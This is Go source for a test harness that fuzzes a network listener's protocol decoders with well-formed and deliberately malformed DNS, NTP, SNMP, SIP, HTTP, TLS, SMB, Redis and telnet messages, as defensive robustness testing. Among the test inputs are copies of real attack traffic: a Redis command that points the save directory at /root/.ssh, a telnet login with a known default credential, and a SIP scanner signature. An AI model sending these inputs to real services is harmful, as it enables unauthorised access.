	if out, err := exec.Command("cp", "-a", t+"/.", dir).CombinedOutput(); err != nil {
		return nil, fmt.Errorf("copy template: %v %s", err, out)
	}
	os.Remove(filepath.Join(dir, "badger.db", "LOCK"))
	return startChild(dir, true, services)
}

func startChild(dir string, own bool, services []string) (*Child, error) {
	pr, pw, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	errLog, err := os.CreateTemp("", "labd-log")
	if err != nil {
		return nil, err
	}
	limitKB := 6 * 1024 * 1024 // address-space guard (the oracle is the idle-growth sampler, not this)
	if v := os.Getenv("VERIF_LABD_VMEM_KB"); v != "" {
		fmt.Sscan(v, &limitKB)
	}
	cmd := exec.Command("/bin/sh", "-c", fmt.Sprintf("ulimit -v %d; exec %s", limitKB, labdPath()))
	cmd.Env = append(os.Environ(), "VERIF_DATADIR="+dir, "GOMAXPROCS=4", "GOTRACEBACK=single")
	if services != nil {
		cmd.Env = append(cmd.Env, "LABD_SERVICES="+strings.Join(services, ","))
	}
	cmd.Stdout = errLog
	cmd.Stderr = errLog
	cmd.ExtraFiles = []*os.File{pw}
	stdin, err := cmd.StdinPipe()
	if err != nil {
		return nil, err
	}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	pw.Close()
	c := &Child{cmd: cmd, in: stdin, out: bufio.NewReaderSize(pr, 1<<20), outF: pr, errLog: errLog, dir: dir}
	if !own {
		c.dir = ""
	}
	// hello
	if _, err := c.read(90 * time.Second); err != nil {
		c.kill()
		return nil, fmt.Errorf("child did not come up: %v; log tail: %s", err, c.LogTail(2000))
	}
	return c, nil
}

func (c *Child) read(timeout time.Duration) (*Response, error) {
	type res struct {
		r   *Response
		err error
	}
	ch := make(chan res, 1)
	go func() {
		line, err := c.out.ReadBytes('\n')
		if err != nil {
			ch <- res{nil, err}
			return
		}
		var r Response
		if err := json.Unmarshal(line, &r); err != nil {
			ch <- res{nil, err}
			return
		}
		ch <- res{&r, nil}
	}()
	select {
	case r := <-ch:
		return r.r, r.err
	case <-time.After(timeout):
		return nil, fmt.Errorf("timeout after %v", timeout)
	}
}

// ErrDead is returned when the child process is gone.
type ErrDead struct{ How, Log string }

func (e *ErrDead) Error() string { return "lab child died: " + e.How + "; " + e.Log }

// ErrStuck is returned when the child does not answer (hung or spinning).
type ErrStuck struct{ Log string }

func (e *ErrStuck) Error() string { return "lab child does not answer: " + e.Log }

// Do sends a request and waits for the response.
func (c *Child) Do(req Request, timeout time.Duration) (*Response, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.dead {
		return nil, &ErrDead{c.Exit, c.banner()}
	}
	c.nextID++
	req.ID = c.nextID
	data, _ := json.Marshal(req)
	if _, err := c.in.Write(append(data, '\n')); err != nil {
		return nil, c.died()
	}
	r, err := c.read(timeout)
	if err != nil {
		if strings.HasPrefix(err.Error(), "timeout") {
			// still running?
			if c.cmd.ProcessState == nil && processAlive(c.cmd.Process.Pid) {
				return nil, &ErrStuck{c.LogTail(1500)}
			}
		}
		return nil, c.died()
	}
	return r, nil
}

func processAlive(pid int) bool {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return false
	}
	i := strings.LastIndexByte(string(data), ')')
	return i > 0 && i+2 < len(data) && data[i+2] != 'Z'
}

func (c *Child) died() error {
	done := make(chan struct{})
	go func() { c.cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		c.cmd.Process.Kill()
		<-done
	}
	c.dead = true
	c.Exit = c.cmd.ProcessState.String()
	return &ErrDead{c.Exit, c.banner()}
}

// banner extracts the fatal banner ("panic:", "fatal error:", "runtime:") from the log.
func (c *Child) banner() string {
	data, _ := os.ReadFile(c.errLog.Name())
	s := string(data)
	best := -1
	for _, k := range []string{"\nfatal error:", "\npanic:", "\nruntime: ", "\nunexpected fault", "signal: killed"} {
		if i := strings.Index(s, k); i >= 0 && (best < 0 || i < best) {
			best = i
		}
	}
	if i := strings.Index(s, "out of memory: cannot allocate"); i >= 0 && (best < 0 || i < best) {
		best = i
	}
	if best < 0 {
		if len(s) > 600 {
			s = s[len(s)-600:]
		}
		return "log tail: " + s
	}
	end := best + 1500
	if end > len(s) {
		end = len(s)
	}
	return s[best:end]
}

func (c *Child) LogTail(n int) string {
	data, _ := os.ReadFile(c.errLog.Name())
	if len(data) > n {
		data = data[len(data)-n:]
	}
	return string(data)
}

func (c *Child) Alive() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return !c.dead && processAlive(c.cmd.Process.Pid)
}

func (c *Child) kill() {
	if c.cmd.Process != nil {
		c.cmd.Process.Kill()
		c.cmd.Wait()
	}
	c.dead = true
	c.cleanup()
}

// Stop ends the child and removes its scratch files.
func (c *Child) Stop() {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.dead {
		c.in.Close()
		done := make(chan struct{})
		go func() { c.cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(3 * time.Second):
			c.cmd.Process.Kill()
			<-done
		}
		c.dead = true
	}
	c.cleanup()
}

func (c *Child) cleanup() {
	c.outF.Close()
	if c.errLog != nil {
		os.Remove(c.errLog.Name())
		c.errLog.Close()
	}
	if c.dir != "" {
		os.RemoveAll(c.dir)
	}
}

// ToWire converts an in-process script.
func ToWire(s *Script) WireScript {
	w := WireScript{Service: s.Service, UDP: s.UDP, End: s.End}
	for _, st := range s.Steps {
		w.Steps = append(w.Steps, WireStep{D: vlib.Hex(st.Data), W: st.Wait})
	}
	return w
}
