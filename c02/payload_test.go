//go:build verif && linux
// +build verif,linux

package c02

// Application-layer payloads for the ports that HAVE a decoder. The listener hands a
// datagram to udp/53, 123, 161, 162, 1900, 5060 and the first flight of a connection to
// tcp/23, 80, 139, 443, 445, 1433, 6379, 9200 to protocol decoders (third-party parsers
// among them) that run in goroutines of their own; a decoder that panics on a hostile
// payload must cost that one datagram / connection, never the process. Random bytes do
// not get far into such parsers: the payloads here are well-formed DNS, NTP, SNMP, SSDP,
// SIP messages (and TLS, HTTP, SMB, NetBIOS, TDS, Redis, telnet first flights) built by
// encoders of the harness, then cut short at every length, with every single byte
// replaced by boundary values, with count / length fields off, and sent to their own
// port and to the other decoded ports. Oracle unchanged: child alive + probe event.

import (
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"time"

	cl "verif/canarylab"
	"verif/vlib"
)

// ---------------------------------------------------------------------------------
// encoders

func be16(v int) []byte { return []byte{byte(v >> 8), byte(v)} }
func be32(v uint32) []byte {
	return []byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}
}

func cat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

// dnsName encodes a dotted name as length-prefixed labels ("" / "." = the root).
func dnsName(n string) []byte {
	var out []byte
	for _, l := range strings.Split(strings.Trim(n, "."), ".") {
		if l == "" {
			continue
		}
		out = append(out, byte(len(l)))
		out = append(out, l...)
	}
	return append(out, 0)
}

func dnsQuestion(name []byte, typ, class int) []byte { return cat(name, be16(typ), be16(class)) }

func dnsRR(name []byte, typ, class int, ttl uint32, rdata []byte) []byte {
	return cat(name, be16(typ), be16(class), be32(ttl), be16(len(rdata)), rdata)
}

func dnsMsg(id, flags int, qd, an, ns, ar [][]byte) []byte {
	out := cat(be16(id), be16(flags), be16(len(qd)), be16(len(an)), be16(len(ns)), be16(len(ar)))
	for _, sec := range [][][]byte{qd, an, ns, ar} {
		for _, r := range sec {
			out = append(out, r...)
		}
	}
	return out
}

type base struct {
	name string
	data []byte
	// fields: offsets of count / length fields (2 bytes, big endian) worth setting off
	fields []int
}

func dnsBases() []base {
	ptr := []byte{0xc0, 0x0c} // compression pointer to the first question's name
	opt := dnsRR([]byte{0}, 41, 4096, 0, nil)
	long := strings.Repeat("a", 63)
	counts := []int{4, 6, 8, 10}
	return []base{
		{"query-a", dnsMsg(0x1234, 0x0100, [][]byte{dnsQuestion(dnsName("example.com"), 1, 1)}, nil, nil, nil), counts},
		{"query-two-questions", dnsMsg(7, 0x0100, [][]byte{dnsQuestion(dnsName("a.example.org"), 28, 1), dnsQuestion(dnsName("example.org"), 255, 1)}, nil, nil, nil), counts},
		{"query-edns", dnsMsg(0xbeef, 0x0120, [][]byte{dnsQuestion(dnsName("www.example.net"), 1, 1)}, nil, nil, [][]byte{opt}), counts},
		{"query-root-ns", dnsMsg(1, 0x0000, [][]byte{dnsQuestion(dnsName("."), 2, 1)}, nil, nil, nil), counts},
		{"query-long-labels", dnsMsg(2, 0x0100, [][]byte{dnsQuestion(dnsName(long+"."+long+"."+long+"."+strings.Repeat("b", 61)), 16, 1)}, nil, nil, nil), counts},
		{"response", dnsMsg(0x1234, 0x8180, [][]byte{dnsQuestion(dnsName("example.com"), 1, 1)},
			[][]byte{dnsRR(ptr, 5, 1, 300, cat([]byte{3, 'w', 'w', 'w'}, ptr)), dnsRR(ptr, 1, 1, 300, []byte{93, 184, 216, 34}),
				dnsRR(ptr, 15, 1, 60, cat(be16(10), []byte{4, 'm', 'a', 'i', 'l'}, ptr)), dnsRR(ptr, 16, 1, 60, []byte{5, 'h', 'e', 'l', 'l', 'o', 0})},
			[][]byte{dnsRR(ptr, 6, 1, 3600, cat([]byte{2, 'n', 's'}, ptr, []byte{4, 'r', 'o', 'o', 't'}, ptr, be32(2024010101), be32(7200), be32(3600), be32(1209600), be32(300)))},
			[][]byte{dnsRR(cat([]byte{2, 'n', 's'}, ptr), 28, 1, 300, make([]byte, 16)), opt}), counts},
		{"notify", dnsMsg(9, 0x2400, [][]byte{dnsQuestion(dnsName("example.com"), 6, 1)}, nil, nil, nil), counts},
		{"update", dnsMsg(10, 0x2800, [][]byte{dnsQuestion(dnsName("example.com"), 6, 1)}, nil,
			[][]byte{dnsRR(dnsName("host.example.com"), 1, 1, 60, []byte{10, 0, 0, 1})}, nil), counts},
		{"status-opcode", dnsMsg(11, 0x1000, nil, nil, nil, nil), counts},
	}
}

func ntpBases() []base {
	pkt := func(first byte, tail ...[]byte) []byte {
		p := make([]byte, 48)
		p[0] = first
		p[1], p[2], p[3] = 2, 6, 0xec
		copy(p[12:16], "GPS\x00")
		for i := 16; i < 48; i++ {
			p[i] = byte(0x80 + i)
		}
		return cat(append([][]byte{p}, tail...)...)
	}
	ext := cat(be16(0x0104), be16(16), make([]byte, 12)) // extension field: type, length 16
	mac := cat(be32(1), make([]byte, 16))                // key identifier + MD5 digest
	return []base{
		{"client-v4", pkt(0x23), nil},
		{"client-v3", pkt(0x1b), nil},
		{"server-v4", pkt(0x24), nil},
		{"broadcast-leap", pkt(0xe5), nil},
		{"client-mac", pkt(0x23, mac), []int{48}},
		{"client-extension", pkt(0x23, ext, mac), []int{48, 50}},
		{"client-extension-only", pkt(0x23, ext), []int{48, 50}},
		{"control-readvar", cat([]byte{0x16, 0x02}, be16(1), be16(0), be16(0), be16(0), be16(0)), []int{8, 10}},
		{"private-monlist", cat([]byte{0x17, 0x00, 0x03, 0x2a}, make([]byte, 4)), []int{4, 6}},
		{"private-monlist-long", cat([]byte{0x17, 0x00, 0x03, 0x2a}, make([]byte, 188)), []int{4, 6}},
	}
}

func ber(tag byte, content ...[]byte) []byte {
	c := cat(content...)
	switch {
	case len(c) < 128:
		return cat([]byte{tag, byte(len(c))}, c)
	case len(c) < 256:
		return cat([]byte{tag, 0x81, byte(len(c))}, c)
	}
	return cat([]byte{tag, 0x82}, be16(len(c)), c)
}

func snmpBases() []base {
	sysDescr := []byte{0x2b, 6, 1, 2, 1, 1, 1, 0}
	vb := ber(0x30, ber(0x30, ber(0x06, sysDescr), ber(0x05)))
	pdu := func(tag byte, a, b byte) []byte {
		return ber(tag, ber(0x02, be32(0x1234abcd)), ber(0x02, []byte{a}), ber(0x02, []byte{b}), vb)
	}
	trap := ber(0xa4, ber(0x06, []byte{0x2b, 6, 1, 4, 1, 0x8f, 0x51}), ber(0x40, []byte{10, 0, 0, 1}), ber(0x02, []byte{6}), ber(0x02, []byte{1}), ber(0x43, be32(123456)), vb)
	v3 := ber(0x30, ber(0x02, []byte{3}), ber(0x30, ber(0x02, be32(1)), ber(0x02, be16(1472)), ber(0x04, []byte{4}), ber(0x02, []byte{3})),
		ber(0x04, ber(0x30, ber(0x04), ber(0x02, []byte{0}), ber(0x02, []byte{0}), ber(0x04), ber(0x04), ber(0x04))),
		ber(0x30, ber(0x04), ber(0x04), pdu(0xa0, 0, 0)))
	return []base{
		{"v1-get", ber(0x30, ber(0x02, []byte{0}), ber(0x04, []byte("public")), pdu(0xa0, 0, 0)), nil},
		{"v2c-getbulk", ber(0x30, ber(0x02, []byte{1}), ber(0x04, []byte("private")), pdu(0xa5, 0, 50)), nil},
		{"v2c-set", ber(0x30, ber(0x02, []byte{1}), ber(0x04, []byte("private")), pdu(0xa3, 0, 0)), nil},
		{"v1-trap", ber(0x30, ber(0x02, []byte{0}), ber(0x04, []byte("public")), trap), nil},
		{"v2c-trap", ber(0x30, ber(0x02, []byte{1}), ber(0x04, []byte("public")), pdu(0xa7, 0, 0)), nil},
		{"v3-get", v3, nil},
		{"long-community", ber(0x30, ber(0x02, []byte{0}), ber(0x04, []byte(strings.Repeat("c", 300))), pdu(0xa1, 0, 0)), nil},
	}
}

func textBases() (ssdp, sip, http []base) {
	t := func(name string, lines ...string) base { return base{name, []byte(strings.Join(lines, "\r\n")), nil} }
	sdp := "v=0\r\no=alice 2890844526 2890844526 IN IP4 pc33.example.com\r\ns=-\r\nc=IN IP4 192.0.2.101\r\nt=0 0\r\nm=audio 49172 RTP/AVP 0\r\n"
	ssdp = []base{
		t("m-search", "M-SEARCH * HTTP/1.1", "HOST: 239.255.255.250:1900", `MAN: "ssdp:discover"`, "MX: 2", "ST: ssdp:all", "", ""),
		t("notify", "NOTIFY * HTTP/1.1", "HOST: 239.255.255.250:1900", "CACHE-CONTROL: max-age=1800", "LOCATION: http://192.0.2.7:49152/desc.xml", "NT: upnp:rootdevice", "NTS: ssdp:alive", "USN: uuid:00000000-0000-0000-0000-000000000000::upnp:rootdevice", "", ""),
		t("response", "HTTP/1.1 200 OK", "CACHE-CONTROL: max-age=120", "EXT:", "ST: upnp:rootdevice", "", ""),
	}
	sip = []base{
		t("options", "OPTIONS sip:100@192.0.2.9 SIP/2.0", "Via: SIP/2.0/UDP 10.1.2.3:5060;branch=z9hG4bK-1;rport", "Max-Forwards: 70", "From: \"sipvicious\"<sip:100@1.1.1.1>;tag=1", "To: \"sipvicious\"<sip:100@1.1.1.1>", "Call-ID: 1234567890", "CSeq: 1 OPTIONS", "Contact: <sip:100@10.1.2.3:5060>", "User-Agent: friendly-scanner", "Content-Length: 0", "", ""),
		t("invite-sdp", "INVITE sip:bob@example.com SIP/2.0", "Via: SIP/2.0/UDP pc33.example.com;branch=z9hG4bK776asdhds", "Max-Forwards: 70", "To: Bob <sip:bob@example.com>", "From: Alice <sip:alice@example.com>;tag=1928301774", "Call-ID: a84b4c76e66710@pc33.example.com", "CSeq: 314159 INVITE", "Contact: <sip:alice@pc33.example.com>", "Content-Type: application/sdp", fmt.Sprintf("Content-Length: %d", len(sdp)), "", sdp),
		t("register", "REGISTER sip:example.com SIP/2.0", "Via: SIP/2.0/UDP 10.1.2.3:5060;branch=z9hG4bK-2", "From: <sip:100@example.com>;tag=2", "To: <sip:100@example.com>", "Call-ID: 2@10.1.2.3", "CSeq: 2 REGISTER", "Expires: 3600", "Content-Length: 0", "", ""),
		t("status-line", "SIP/2.0 200 OK", "Via: SIP/2.0/UDP 10.1.2.3:5060", "CSeq: 1 OPTIONS", "", ""),
	}
	http = []base{
		t("get", "GET /index.html?q=1 HTTP/1.1", "Host: www.example.com", "User-Agent: Mozilla/5.0", "Accept: */*", "Connection: close", "", ""),
		t("post-body", "POST /login HTTP/1.1", "Host: www.example.com", "Content-Type: application/x-www-form-urlencoded", "Content-Length: 27", "", "username=admin&password=123"),
		t("post-chunked", "POST /upload HTTP/1.1", "Host: a", "Transfer-Encoding: chunked", "", "5", "hello", "0", "", ""),
		t("es-search", "GET /_search?pretty HTTP/1.1", "Host: 192.0.2.9:9200", "Content-Type: application/json", "Content-Length: 27", "", `{"query":{"match_all":{}}}`+"\n"),
		t("connect", "CONNECT example.com:443 HTTP/1.0", "", ""),
		t("http-0.9", "GET /", ""),
	}
	return
}

// textMutations: request-line and header-line shapes of HTTP-like text protocols.
func textMutations(b base) (out []base) {
	s := string(b.data)
	first := s
	rest := ""
	if i := strings.Index(s, "\r\n"); i >= 0 {
		first, rest = s[:i], s[i:]
	}
	add := func(name, v string) { out = append(out, base{b.name + "/" + name, []byte(v), nil}) }
	add("bare-lf", strings.Replace(s, "\r\n", "\n", -1))
	add("bare-cr", strings.Replace(s, "\r\n", "\r", -1))
	add("nul-in-request-line", strings.Replace(first, " ", "\x00", 1)+rest)
	add("no-spaces", strings.Replace(first, " ", "", -1)+rest)
	add("many-spaces", strings.Replace(first, " ", "    ", -1)+rest)
	add("tab-separated", strings.Replace(first, " ", "\t", -1)+rest)
	add("long-request-line", strings.Replace(first, " ", " /"+strings.Repeat("A", 1300), 1)+rest)
	for _, v := range []string{"HTTP/1.1", "HTTP/9.9", "HTTP/1", "HTTP/1.1.1", "HTTP/-1.0", "HTTP/65536.65536", "SIP/2.0", "SIP/", "", "HTTP/1.1 extra"} {
		f := strings.Fields(first)
		if len(f) >= 2 {
			add("proto="+v, f[0]+" "+f[1]+" "+v+rest)
		}
	}
	for _, m := range []string{"", "\x80\xff", strings.Repeat("M", 300), "GET\x00", "*"} {
		if i := strings.Index(first, " "); i >= 0 {
			add(fmt.Sprintf("method=%q", m), m+first[i:]+rest)
		}
	}
	for _, u := range []string{"*", "", "//", "http://[::1", "http://[::1]:99999/", "%", "%zz", "/%00", "sip:", "sip:@", "?", "#", "http://a b/", strings.Repeat("/..", 200)} {
		f := strings.SplitN(first, " ", 3)
		if len(f) == 3 {
			add(fmt.Sprintf("uri=%q", u), f[0]+" "+u+" "+f[2]+rest)
		}
	}
	hdr := func(name, line string) {
		if i := strings.Index(s, "\r\n"); i >= 0 {
			add(name, s[:i+2]+line+"\r\n"+s[i+2:])
		}
	}
	hdr("header-no-colon", "this line has no colon")
	hdr("header-empty-name", ": value")
	hdr("header-space-before-colon", "Host : x")
	hdr("header-continuation", " folded: continuation line first")
	hdr("header-long", "X-Long: "+strings.Repeat("v", 1350))
	hdr("header-nul", "X-Nul: a\x00b")
	hdr("header-8bit", "X-\xff\xfe: \xff")
	hdr("content-length-negative", "Content-Length: -1")
	hdr("content-length-huge", "Content-Length: 99999999999999999999")
	hdr("content-length-twice", "Content-Length: 5\r\nContent-Length: 6")
	hdr("content-length-text", "Content-Length: abc")
	hdr("transfer-encoding-chunked", "Transfer-Encoding: chunked")
	hdr("transfer-encoding-unknown", "Transfer-Encoding: gzip, x")
	hdr("many-headers", strings.Repeat("X-A: b\r\n", 150)+"X-Z: z")
	hdr("host-twice", "Host: a\r\nHost: b")
	hdr("host-bad", "Host: a b\x7f/")
	return out
}

func tcpBases() map[uint16][]base {
	random := make([]byte, 32)
	for i := range random {
		random[i] = byte(i*11 + 1)
	}
	sni := cat(be16(0), be16(16), be16(14), []byte{0}, be16(11), []byte("example.com"))
	exts := cat(sni, be16(0x000a), be16(4), be16(2), be16(0x001d), be16(0x002b), be16(3), []byte{2, 3, 4})
	hello := cat([]byte{3, 3}, random, []byte{32}, make([]byte, 32), be16(4), be16(0x1301), be16(0xc02f), []byte{1, 0}, be16(len(exts)), exts)
	hs := cat([]byte{1, byte(len(hello) >> 16)}, be16(len(hello)), hello)
	record := func(typ byte, ver int, body []byte) []byte { return cat([]byte{typ}, be16(ver), be16(len(body)), body) }
	sslv2 := cat([]byte{0x80, 0x1f, 0x01, 0x00, 0x02}, be16(6), be16(0), be16(16), []byte{1, 0, 0x80, 7, 0, 0xc0}, make([]byte, 16))
	smb2 := cat([]byte{0xfe, 'S', 'M', 'B'}, []byte{64, 0}, be16(0), be32(0), be16(0), make([]byte, 50), []byte{36, 0, 2, 0, 1, 0, 0, 0}, make([]byte, 28), []byte{2, 2, 0x10, 2})
	smb1 := cat([]byte{0xff, 'S', 'M', 'B', 0x72}, make([]byte, 27), []byte{0}, []byte{12, 0}, []byte("\x02NT LM 0.12\x00"))
	nbss := func(b []byte) []byte { return cat([]byte{0, 0}, be16(len(b)), b) }
	nbname := func(n string) []byte {
		out := []byte{32}
		for _, c := range []byte(fmt.Sprintf("%-15s\x20", n)) {
			out = append(out, 'A'+c>>4, 'A'+c&15)
		}
		return append(out, 0)
	}
	nbt := cat([]byte{0x81, 0}, be16(68), nbname("*SMBSERVER"), nbname("SCANNER"))
	prelogin := cat([]byte{0x12, 0x01}, be16(47), be16(0), []byte{0, 0},
		[]byte{0}, be16(26), be16(6), []byte{1}, be16(32), be16(1), []byte{2}, be16(33), be16(1), []byte{3}, be16(34), be16(4), []byte{4}, be16(38), be16(1), []byte{0xff},
		[]byte{16, 0, 0, 0, 0, 0}, []byte{0}, []byte{0}, be32(0), []byte{0})
	_, _, http := textBases()
	var httpAll []base
	for _, h := range http {
		httpAll = append(httpAll, h)
		httpAll = append(httpAll, textMutations(h)...)
	}
	return map[uint16][]base{
		443: {{"tls12-client-hello", record(0x16, 0x0301, hs), []int{3, 6, 7}}, {"tls-alert", record(0x15, 0x0303, []byte{2, 40}), []int{3}},
			{"tls-two-records", cat(record(0x16, 0x0303, hs[:20]), record(0x16, 0x0303, hs[20:])), []int{3}}, {"tls-appdata-16k", record(0x17, 0x0303, make([]byte, 1400)), []int{3}},
			{"sslv2-client-hello", sslv2, []int{0, 5}}, {"http-on-tls-port", http[0].data, nil}},
		80:   httpAll,
		9200: httpAll,
		445:  {{"smb2-negotiate", smb2, nil}, {"nbss+smb2-negotiate", nbss(smb2), []int{2}}, {"smb1-negotiate", smb1, nil}, {"nbss+smb1-negotiate", nbss(smb1), []int{2}}},
		139:  {{"session-request", nbt, []int{2}}, {"session-request+smb1", cat(nbt, nbss(smb1)), []int{2}}, {"keepalive", []byte{0x85, 0, 0, 0}, []int{2}}},
		1433: {{"tds-prelogin", prelogin, []int{2}}, {"tds-login7-header", cat([]byte{0x10, 0x01}, be16(8+86), be16(0), []byte{1, 0}, []byte{86, 0, 0, 0, 4, 0, 0, 0x74}, make([]byte, 78)), []int{2}}},
		6379: {{"inline-ping", []byte("PING\r\n"), nil}, {"resp-array", []byte("*3\r\n$3\r\nSET\r\n$3\r\nkey\r\n$5\r\nvalue\r\n"), nil}, {"resp-null-array", []byte("*-1\r\n"), nil},
			{"resp-huge-bulk", []byte("*1\r\n$99999999999999999999\r\nx\r\n"), nil}, {"resp-nested", []byte(strings.Repeat("*1\r\n", 600) + "$1\r\nx\r\n"), nil}, {"config-set", []byte("CONFIG SET dir /root/.ssh/\r\nSAVE\r\n"), nil}},
		23: {{"iac-negotiation", []byte{255, 253, 1, 255, 253, 31, 255, 251, 24, 255, 250, 24, 0, 'x', 't', 'e', 'r', 'm', 255, 240}, nil}, {"iac-unterminated-sb", []byte{255, 250, 31, 0, 80, 0}, nil},
			{"login", []byte("root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n"), nil}, {"iac-only", []byte{255}, nil}, {"iac-run", []byte(strings.Repeat("\xff", 700)), nil}},
	}
}

// ---------------------------------------------------------------------------------
// variants

type variant struct {
	kind string // wellformed | truncated | byte=.. | field=..
	what string
	data []byte
}

// substitutes: boundary values a single byte is replaced with (zero length / count, the
// largest plain label, the first reserved label type, a compression pointer, all ones,
// sign bit, BER long-form length markers).
var substitutes = []byte{0x00, 0x01, 0x3f, 0x40, 0x7f, 0x80, 0x81, 0x84, 0xc0, 0xff}

// variants of one base message: itself, every proper prefix, every byte replaced by each
// boundary value (positions beyond dense are sampled at the given stride), count / length
// fields set to boundary values, and the message followed by surplus bytes.
func variants(b base, dense, stride int, subst []byte) []variant {
	out := []variant{{"wellformed", b.name, b.data}}
	for i := 0; i < len(b.data); i++ {
		if i > dense && i%stride != 0 && i != len(b.data)-1 {
			continue
		}
		out = append(out, variant{"truncated", fmt.Sprintf("%s cut to %d of %d bytes", b.name, i, len(b.data)), b.data[:i]})
	}
	for i := 0; i < len(b.data); i++ {
		if i > dense && i%stride != 0 {
			continue
		}
		for _, v := range subst {
			if b.data[i] == v {
				continue
			}
			d := append([]byte(nil), b.data...)
			d[i] = v
			out = append(out, variant{"byte-replaced", fmt.Sprintf("%s byte %d = %#02x", b.name, i, v), d})
		}
	}
	for _, off := range b.fields {
		if off+2 > len(b.data) {
			continue
		}
		cur := int(b.data[off])<<8 | int(b.data[off+1])
		for _, v := range []int{0, 1, cur - 1, cur + 1, cur + 2, 255, 256, 0x7fff, 0x8000, 0xffff} {
			if v < 0 || v == cur {
				continue
			}
			d := append([]byte(nil), b.data...)
			d[off], d[off+1] = byte(v>>8), byte(v)
			out = append(out, variant{"field-off", fmt.Sprintf("%s field at %d = %d (was %d)", b.name, off, v, cur), d})
			// the field promises more than the datagram holds and the datagram ends early as well
			for _, cut := range []int{off + 2, (off + 2 + len(b.data)) / 2, len(b.data) - 1} {
				if cut > off+1 && cut < len(b.data) {
					out = append(out, variant{"field-off+truncated", fmt.Sprintf("%s field at %d = %d, cut to %d bytes", b.name, off, v, cut), d[:cut]})
				}
			}
		}
	}
	for _, n := range []int{1, 2, 11, 400} {
		out = append(out, variant{"surplus", fmt.Sprintf("%s + %d surplus bytes", b.name, n), cat(b.data, pad(n, 0xc0))})
	}
	return out
}

var udpDecoded = []uint16{53, 123, 161, 162, 1900, 5060}

// decoderFrames: every variant to the port of its protocol; the well-formed messages and
// a sample of the variants also to the other decoded ports.
func decoderFrames(l cl.Local) []labelled {
	var out []labelled
	sport := uint16(4100)
	add := func(proto string, port uint16, v variant) {
		if len(v.data) > 1472 {
			return
		}
		sport++
		if sport < 4100 {
			sport = 4100
		}
		out = append(out, labelled{fmt.Sprintf("payload/udp/%s/%s/port=%d", proto, v.kind, port), fmt.Sprintf("udp/%d %s: %s", port, proto, v.what), l.UDPFrame(peer, sport, port, v.data)})
	}
	emit := func(proto string, home []uint16, vs []variant) {
		for i, v := range vs {
			for _, p := range home {
				add(proto, p, v)
			}
			if v.kind == "wellformed" || i%16 == 0 {
				for _, p := range udpDecoded {
					mine := false
					for _, h := range home {
						mine = mine || h == p
					}
					if !mine {
						add(proto, p, v)
					}
				}
			}
		}
	}
	for _, b := range dnsBases() {
		emit("dns", []uint16{53}, variants(b, 1<<20, 1, substitutes))
	}
	for _, b := range ntpBases() {
		emit("ntp", []uint16{123}, variants(b, 1<<20, 1, substitutes))
	}
	for _, b := range snmpBases() {
		emit("snmp", []uint16{161, 162}, variants(b, 80, 7, substitutes))
	}
	ssdp, sip, _ := textBases()
	for _, set := range []struct {
		proto string
		port  uint16
		bases []base
	}{{"ssdp", 1900, ssdp}, {"sip", 5060, sip}} {
		for _, b := range set.bases {
			emit(set.proto, []uint16{set.port}, variants(b, 1<<20, 1, []byte{0x00, 0x0a, 0x20, 0x3a, 0xff}))
			for _, m := range textMutations(b) {
				emit(set.proto, []uint16{set.port}, []variant{{"text-mutated", m.name, m.data}})
			}
		}
	}
	return out
}

// ---------------------------------------------------------------------------------

const payloadRule = "application-layer payloads for the decoded ports: well-formed messages built by the harness's own encoders - DNS (queries for A / AAAA+ANY / with EDNS0 OPT / the root / 63-byte labels, a response with CNAME, A, MX, TXT, SOA, AAAA records using compression pointers, NOTIFY, UPDATE, STATUS), NTP (client v3/v4, server, broadcast, with MAC, with extension field, mode 6 control, mode 7 monlist), SNMP (v1 get, v2c getbulk/set/trap, v1 trap, v3, 300-byte community; BER), SSDP (M-SEARCH, NOTIFY, response), SIP (OPTIONS, INVITE with SDP, REGISTER, status line) - each as it is, cut to every shorter length, with every byte replaced by 0x00/01/3f/40/7f/80/81/84/c0/ff (text: NUL/LF/space/colon/0xff), with every count / length field set to 0, 1, its value -1/+1/+2, 255, 256, 0x7fff, 0x8000, 0xffff (also combined with a truncation), followed by 1/2/11/400 surplus bytes, text messages also with 50 request-line / header-line shapes (bare LF, NUL, missing / surplus spaces, protocol versions, methods, URIs, header lines without colon / with empty name / folded / 1,350 bytes long, Content-Length negative / huge / twice / text, Transfer-Encoding, 150 headers), sent as UDP datagrams to the port of their protocol and (well-formed ones and every 16th variant) to the other five decoded ports; and first flights for the decoded TCP ports - TLS 1.2 ClientHello with SNI, alert, split records, SSLv2 hello (443), HTTP requests with the text shapes (80, 9200), SMB2 / SMB1 negotiate with and without session header (445), NetBIOS session request (139), TDS prelogin / login7 (1433), Redis inline / RESP / nested / huge bulk (6379), telnet IAC negotiation (23) - as they are, cut at every length up to 48 bytes and every 16th beyond, with length fields off, pushed (PSH|ACK) on a connection that completed its handshake, with a barrier before the probe so that every decoder goroutine has run. A decoder may reject or panic in its goroutine; the listener must go on. non-trivial = the datagram / first flight reaches a decoder (distinct by port and variant)"

func TestDecoderPayloads(t *testing.T) {
	r := vlib.Open(prop)
	if replayed(t, r, "TestDecoderPayloads") {
		return
	}
	l := env(t)
	r.Rule(ruleText)
	r.Rule(payloadRule)
	items := shardOf(r, decoderFrames(l))
	frames := account(r, items)
	s := &sweeper{t: t, r: r, l: l, test: "TestDecoderPayloads", tables: "arp", seen: map[string]bool{}, rest: true}
	const chunk = 2048
	var fatal int64
	for len(frames) > 0 && s.nviol < 4 {
		n := chunk
		if n > len(frames) {
			n = len(frames)
		}
		part := frames[:n]
		frames = frames[n:]
		verr, nf, infra := runDecoderBatch(l, part)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		fatal += int64(nf)
		if verr != nil {
			s.real(part) // re-runs, reduces to a single datagram where possible, confirms, reports
		}
	}
	if fatal > 0 {
		// generator health: payloads on which a decoder goroutine panicked and the listener
